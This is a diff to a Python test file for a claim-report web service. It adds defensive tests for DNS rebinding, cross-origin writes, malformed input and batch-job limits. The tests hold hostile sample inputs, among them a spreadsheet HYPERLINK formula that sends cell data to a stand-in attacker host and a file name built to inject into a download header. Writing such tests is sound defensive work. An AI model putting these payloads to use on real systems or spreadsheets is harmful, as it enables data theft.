@@ -56,7 +56,7 @@ def echo(texts): return [f"report for {t}" for t in texts]
 
 def make_client(app):
     from fastapi.testclient import TestClient
-    return TestClient(app, raise_server_exceptions=False)
+    return TestClient(app, raise_server_exceptions=False, base_url="http://127.0.0.1")  # a Host the service accepts
 
 
 def wait_until(cond, timeout=5.0):
@@ -71,7 +71,7 @@ def wait_until(cond, timeout=5.0):
 @pytest.fixture(scope="module")
 def client(gen):
     from fastapi.testclient import TestClient
-    with TestClient(create_app(gen)) as c:
+    with TestClient(create_app(gen), base_url="http://127.0.0.1") as c:
         yield c
 
 
@@ -147,7 +147,7 @@ def test_service_large_body_without_length(client):
 
 def test_service_body_limit_is_configurable(gen):
     from fastapi.testclient import TestClient
-    with TestClient(create_app(gen, max_body_bytes=100)) as c:
+    with TestClient(create_app(gen, max_body_bytes=100), base_url="http://127.0.0.1") as c:
         assert c.post("/generate_claim", json={**META, "notes": "n" * 200}).status_code == 413
         assert c.post("/generate_claim", json=dict(shipment_id="S1", damage_type="dent", severity="low")).status_code == 200
 
@@ -167,7 +167,8 @@ def test_service_unknown_field_not_a_string(client):
 
 
 def test_service_health(client, model_dir):
-    r = client.get("/health")
+    assert client.get("/health").json() == {"status": "ok"}  # open: nothing about the model
+    r = client.get("/status")
     assert r.status_code == 200
     body = r.json()
     assert body["status"] == "ok" and body["tiny"] is True
@@ -391,7 +392,7 @@ def test_service_with_ct2_engine(model_dir, gen, ct2_dir):
     fast = ClaimReportGenerator(model_dir, device="cpu", engine="ct2", ct2_dir=ct2_dir)
     with make_client(create_app(fast)) as c:
         r = c.post("/generate_claims", json={"claims": claims(4)})
-        assert c.get("/health").json()["engine"] == "ct2"
+        assert c.get("/status").json()["engine"] == "ct2"
     assert [x["report"] for x in r.json()["results"]] == gen(claims(4))
 
 
@@ -494,7 +495,7 @@ def test_process_concurrent_requests_each_get_their_own_report(proc_gen, gen):
     app = create_app(proc_gen, batch_size=8, max_wait_ms=20)
     with make_client(app) as c, ThreadPoolExecutor(12) as ex:
         proc_gen.wait_ready()
-        assert c.get("/ready").status_code == 200 and c.get("/health").json()["process"] == "separate"
+        assert c.get("/ready").status_code == 200 and c.get("/status").json()["process"] == "separate"
         rs = list(ex.map(lambda m: c.post("/generate_claim", json=m), cs))
         many = c.post("/generate_claims", json={"claims": cs[:3]})
         metrics = c.get("/metrics").text
@@ -538,7 +539,7 @@ def test_process_death_mid_batch_answers_500_then_recovers(proc_gen):
         r = c.post("/generate_claim", json=META)  # waits for the new child to load the model
         assert r.status_code == 200, r.text
         assert proc_gen.pid != first and not pid_alive(first)
-        assert c.get("/ready").status_code == 200 and c.get("/health").json()["restarts"] == 1
+        assert c.get("/ready").status_code == 200 and c.get("/status").json()["restarts"] == 1
         assert "claim_t5_generation_restarts_total 1.0" in c.get("/metrics").text
 
 
@@ -555,7 +556,7 @@ def test_process_hung_mid_batch_answers_500_then_recovers(model_dir, tmp_path):
     engine = "ct2" if ct2_installed() else "transformers"
     with make_client(app) as c:
         g.wait_ready()
-        assert g.engine == engine and c.get("/health").json()["engine"] == engine
+        assert g.engine == engine and c.get("/status").json()["engine"] == engine
         first = g.pid
         os.kill(first, signal.SIGSTOP)  # before the batch is sent: it can never answer, however fast the engine
         r = c.post("/generate_claims", json={"claims": claims(8)})
@@ -565,7 +566,7 @@ def test_process_hung_mid_batch_answers_500_then_recovers(model_dir, tmp_path):
         assert c.get("/ready").status_code == 200 and g.pid != first and g.engine == engine
         r = c.post("/generate_claim", json=META)
         assert r.status_code == 200, r.text
-        assert c.get("/health").json()["restarts"] == 1
+        assert c.get("/status").json()["restarts"] == 1
     assert g.pid is None
 
 
@@ -625,3 +626,188 @@ def test_process_shutdown_answers_in_flight_and_stops_the_child(proc_gen):
     assert all(m["shipment_id"] in r.json()["input"] for m, r in zip(claims(8), rs))
     assert proc_gen.pid is None and not pid_alive(child)  # no orphan
     assert child not in [p.pid for p in multiprocessing.active_children()]
+
+
+# ---------------------------------------------------------------- issue 29: loopback is not trust, every bad input a 4xx, bounded work
+
+GOOD_CSV = b"id,shipment_id,damage_type,severity\nr1,SHP-1,dent,high\nr2,SHP-2,dent,low\n"
+JSON = {"content-type": "application/json"}
+
+
+def checked_echo(gen):
+    "An echo whose reports carry the model's fact check, as the desk's endpoints expect."
+    from claim_t5.facts import CheckedReport
+    return lambda texts: [CheckedReport(r, gen.check(t, r)) for t in texts for r in [f"report for {t}"]]
+
+
+def finished(c, job_id, timeout=20.0, headers=None):
+    "The batch job's status once it has its rows."
+    end = time.monotonic() + timeout
+    while time.monotonic() < end:
+        s = c.get(f"/api/batch/{job_id}", headers=headers or {}).json()
+        if s.get("rows") is not None: return s
+        time.sleep(0.02)
+    raise AssertionError(f"batch {job_id} not finished in {timeout} s")
+
+
+def test_host_allow_list_refuses_rebinding(gen):
+    from fastapi.testclient import TestClient
+    app = create_app(StandIn(gen, checked_echo(gen)), allowed_hosts=["claims.example.com"])
+    with TestClient(app, raise_server_exceptions=False, base_url="http://127.0.0.1:8000") as c:
+        assert c.get("/api/schema").status_code == 200
+        for host in ("evil.example", "127.0.0.1.nip.io", "testserver"):  # a DNS-rebinding page sends its own name
+            assert c.get("/api/reviews", headers={"host": host}).status_code == 400, host
+            assert c.post("/api/draft", json={"meta": META}, headers={"host": host}).status_code == 400, host
+        assert c.get("/health", headers={"host": "localhost:8000"}).status_code == 200
+        assert c.get("/health", headers={"host": "claims.example.com"}).status_code == 200  # --allowed_hosts
+
+
+@pytest.mark.parametrize("ctype", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"])
+def test_json_endpoints_take_only_json(gen, ctype):
+    "What a form or a no-cors fetch on another page can send without asking is refused with 415 on every write."
+    with make_client(create_app(StandIn(gen, checked_echo(gen)))) as c:
+        for path, body in [("/api/draft", {"meta": META}), ("/api/check", {"input": META_STR, "report": "x"}), ("/generate_claim", META),
+                           ("/generate_claims", {"claims": [META]}), ("/api/reviews", {"input": META_STR})]:
+            r = c.post(path, content=json.dumps(body), headers={"content-type": ctype})
+            assert r.status_code == 415 and "application/json" in r.text, (path, r.status_code, r.text)
+        r = c.post("/api/batch?filename=day.csv", content=GOOD_CSV, headers={"content-type": ctype})
+        assert r.status_code == 415, r.text
+        assert c.post("/api/batch?filename=day.csv", content=GOOD_CSV, headers={"content-type": "text/csv"}).status_code == 200
+        assert c.post("/api/draft", json={"meta": META}).status_code == 200
+
+
+def test_writes_from_another_origin_are_refused(gen):
+    with make_client(create_app(StandIn(gen, checked_echo(gen)))) as c:
+        for headers in ({"origin": "http://evil.example"}, {"origin": "null"}, {"sec-fetch-site": "cross-site"},
+                        {"origin": "http://127.0.0.1:9999"}):  # another port is another origin
+            r = c.post("/api/draft", json={"meta": META}, headers=headers)
+            assert r.status_code == 403 and "another site" in r.text, (headers, r.status_code)
+            assert c.post("/api/batch?filename=d.csv", content=GOOD_CSV, headers={**headers, "content-type": "text/csv"}).status_code == 403
+        assert c.post("/api/draft", json={"meta": META}, headers={"origin": "http://127.0.0.1", "sec-fetch-site": "same-origin"}).status_code == 200
+
+
+def test_page_headers_keep_other_sites_out(gen):
+    with make_client(create_app(StandIn(gen, checked_echo(gen)))) as c:
+        for path in ("/", "/desk/desk.js", "/desk/desk.css"):
+            h = c.get(path).headers
+            assert h["content-security-policy"] == "default-src 'self'; frame-ancestors 'none'", path
+            assert h["x-content-type-options"] == "nosniff", path
+
+
+def test_health_says_ok_only_and_answers_head(gen, model_dir):
+    KEY = "k" * 40
+    with make_client(create_app(StandIn(gen, checked_echo(gen)), api_key=KEY)) as c:
+        r = c.get("/health")
+        assert r.json() == {"status": "ok"} and str(model_dir) not in r.text  # no path, no pid, without the key
+        assert c.head("/health").status_code == 200
+        assert c.head("/ready").status_code == 401 and c.head("/ready", headers={"X-API-Key": KEY}).status_code == 200
+        assert c.get("/status").status_code == 401
+        assert c.get("/status", headers={"X-API-Key": KEY}).json()["model_dir"] == str(model_dir)  # the details, behind the key
+
+
+def test_nested_json_nul_bytes_and_file_names_are_4xx(gen):
+    "Bad input is answered 4xx naming it, never 500."
+    deep = b"[" * 4000 + b"]" * 4000
+    with make_client(create_app(StandIn(gen, checked_echo(gen)))) as c:
+        for path in ("/api/check", "/api/draft", "/generate_claim", "/api/reviews"):
+            r = c.post(path, content=deep, headers=JSON)
+            assert 400 <= r.status_code < 500, (path, r.status_code, r.text)
+        r = c.post("/api/batch?filename=day.jsonl", content=b'{"input": ' + b"[" * 100_000 + b"\n", headers={"content-type": "application/jsonl"})
+        assert r.status_code == 422 and "day.jsonl" in r.text, r.text
+        assert c.post("/api/draft", json={"meta": {**META, "vendor": "Ac\x00me"}}).status_code == 422
+        assert c.post("/generate_claim", json={**META, "vendor": "Ac\x00me"}).status_code == 422
+        assert c.post("/api/batch", params={"filename": "day\x00.csv"}, content=GOOD_CSV, headers={"content-type": "text/csv"}).status_code == 422
+        job = c.post("/api/batch", params={"filename": 'Zählung ";x=y.csv'}, content=GOOD_CSV, headers={"content-type": "text/csv"})
+        assert job.status_code == 200, job.text
+        finished(c, job.json()["job"])
+        r = c.get(f"/api/batch/{job.json()['job']}/download")
+        assert r.status_code == 200, r.text
+        cd = r.headers["content-disposition"]
+        assert cd == "attachment; filename=\"Z_hlung __x_y-reports.csv\"; filename*=UTF-8''Z%C3%A4hlung%20%22%3Bx%3Dy-reports.csv", cd
+
+
+def test_downloads_escape_formulas(gen):
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    up = ('id,shipment_id,damage_type,severity\n"' + evil.replace('"', '""') + '",SHP-1,dent,high\n+1,SHP-2,dent,low\n@x,SHP-3,dent,low\n').encode()
+    import csv, io
+    with make_client(create_app(StandIn(gen, checked_echo(gen)))) as c:
+        job = c.post("/api/batch?filename=day.csv", content=up, headers={"content-type": "text/csv"}).json()["job"]
+        finished(c, job)
+        rows = list(csv.reader(io.StringIO(c.get(f"/api/batch/{job}/download?format=csv").text)))
+        assert [r[1] for r in rows[1:]] == ["'" + evil, "'+1", "'@x"]
+        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
+        lines = [json.loads(l) for l in c.get(f"/api/batch/{job}/download?format=jsonl").text.splitlines()]
+        assert [l["id"] for l in lines] == ["'" + evil, "'+1", "'@x"]
+
+
+def test_batch_rows_pass_the_same_field_checks(gen):
+    "A 5,000-character vendor is refused as /generate_claim refuses it, naming the line, instead of generated and truncated."
+    up = ("shipment_id,damage_type,severity,vendor\nSHP-1,dent,high,Acme\nSHP-2,dent,high," + "V" * 5000 + "\nSHP-3,dent,high,Acme\n").encode()
+    with make_client(create_app(StandIn(gen, checked_echo(gen)))) as c:
+        assert c.post("/generate_claim", json={**META, "vendor": "V" * 5000}).status_code == 422
+        r = c.post("/api/batch?filename=day.csv", content=up, headers={"content-type": "text/csv"})
+        assert r.status_code == 422 and "day.csv:3: field(s) ['vendor']" in r.text and "at most 200 characters" in r.text, r.text
+        assert "day.csv:2" not in r.text and "day.csv:4" not in r.text
+
+
+def _slow_echo(seconds, gen):
+    calls = []
+    def generate(texts): calls.append(len(texts)); time.sleep(seconds); return checked_echo(gen)(texts)
+    return generate, calls
+
+
+def test_batch_jobs_are_bounded_in_all_and_per_user(gen, tmp_path):
+    from claim_t5.serve import add_user
+    keys = {n: add_user(tmp_path/"u.yaml", n) for n in ("ann", "bob", "cy")}
+    generate, _ = _slow_echo(0.05, gen)
+    big = ("shipment_id,damage_type,severity\n" + "".join(f"SHP-{i},dent,high\n" for i in range(400))).encode()
+    with make_client(create_app(StandIn(gen, generate), users=tmp_path/"u.yaml", max_jobs=2, max_jobs_per_user=1)) as c:
+        up = lambda who: c.post("/api/batch?filename=day.csv", content=big, headers={"content-type": "text/csv", "X-API-Key": keys[who]})
+        a = up("ann"); assert a.status_code == 200
+        again = up("ann")
+        assert again.status_code == 429 and int(again.headers["retry-after"]) >= 1 and "per user" in again.text, again.text
+        assert up("bob").status_code == 200
+        full = up("cy")
+        assert full.status_code == 429 and "2 batch jobs are running" in full.text and int(full.headers["retry-after"]) >= 1
+        assert c.get(f"/api/batch/{a.json()['job']}", headers={"X-API-Key": keys["bob"]}).status_code == 404  # not Bob's
+        assert c.delete(f"/api/batch/{a.json()['job']}", headers={"X-API-Key": keys["ann"]}).status_code == 200
+        time.sleep(0.2)
+        assert up("cy").status_code == 200  # a cancelled job frees its place
+
+
+def test_cancelled_and_evicted_jobs_stop_generating(gen):
+    generate, calls = _slow_echo(0.05, gen)
+    big = ("shipment_id,damage_type,severity\n" + "".join(f"SHP-{i},dent,high\n" for i in range(400))).encode()
+    app = create_app(StandIn(gen, generate), max_jobs=5, max_jobs_per_user=5)
+    app.state.desk_jobs.keep = 1  # the next job evicts the first
+    with make_client(app) as c:
+        first = c.post("/api/batch?filename=a.csv", content=big, headers={"content-type": "text/csv"}).json()["job"]
+        wait_until(lambda: len(calls) >= 2)
+        task = app.state.desk_jobs.jobs[first]["task"]
+        second = c.post("/api/batch?filename=b.csv", content=big, headers={"content-type": "text/csv"}).json()["job"]
+        wait_until(task.done); assert task.cancelled()  # evicted: its work stopped, not thrown away at the end
+        r = c.delete(f"/api/batch/{second}")
+        assert r.status_code == 200
+        job = app.state.desk_jobs.jobs[second]
+        wait_until(job["task"].done)
+        n = len(calls); time.sleep(0.5)
+        assert len(calls) <= n + 1, "a cancelled job kept generating"  # at most the chunk already running
+        s = c.get(f"/api/batch/{second}").json()
+        assert "cancelled" in s["error"] and s["done"] < 400
+
+
+def test_a_batch_job_never_makes_generate_claim_answer_503(gen):
+    "Interactive requests go first and have their own queue room: with a 1,000-row batch running, none is refused."
+    generate, calls = _slow_echo(0.01, gen)
+    big = ("shipment_id,damage_type,severity\n" + "".join(f"SHP-{i},dent,high\n" for i in range(1000))).encode()
+    app = create_app(StandIn(gen, generate), max_queue=4, batch_lane=4)
+    with make_client(app) as c:
+        job = c.post("/api/batch?filename=day.csv", content=big, headers={"content-type": "text/csv"}).json()["job"]
+        wait_until(lambda: len(calls) >= 3)
+        def one(i): return c.post("/generate_claim", json={**META, "shipment_id": f"SHP-{900000 + i}"}).status_code
+        with ThreadPoolExecutor(4) as ex: codes = list(ex.map(one, range(40)))
+        assert codes == [200] * 40, codes
+        assert c.get(f"/api/batch/{job}").json()["rows"] is None  # the batch was still running meanwhile
+        assert max(calls) <= 4  # a batch chunk is never larger than the batch lane
+        s = finished(c, job, timeout=60)
+        assert s["done"] == 1000 and s["error"] is None
